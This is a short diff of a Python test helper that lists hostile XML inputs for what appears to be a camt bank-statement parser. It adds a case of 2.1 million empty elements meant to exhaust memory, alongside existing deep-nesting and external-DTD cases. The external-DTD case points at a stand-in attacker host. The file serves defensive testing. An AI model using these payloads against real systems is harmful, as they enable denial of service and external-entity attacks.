@@ -175,6 +175,9 @@ def hostile_files() -> dict[str, Hostile]:
         "xml-deep": Hostile(
             "profond.xml", lambda: nested_camt(10**6), "plus de 64 éléments imbriqués"
         ),
+        "xml-wide": Hostile(  # 2.1 million empty elements side by side: 1 GB as a tree
+            "large.xml", lambda: camt("<a/>" * 2_100_000), "plus de 2\u202f000\u202f000 éléments"
+        ),
         "xml-external-dtd": Hostile(
             "dtd.xml",
             lambda: with_doctype('<!DOCTYPE Document SYSTEM "http://attaquant.example/x.dtd">'),
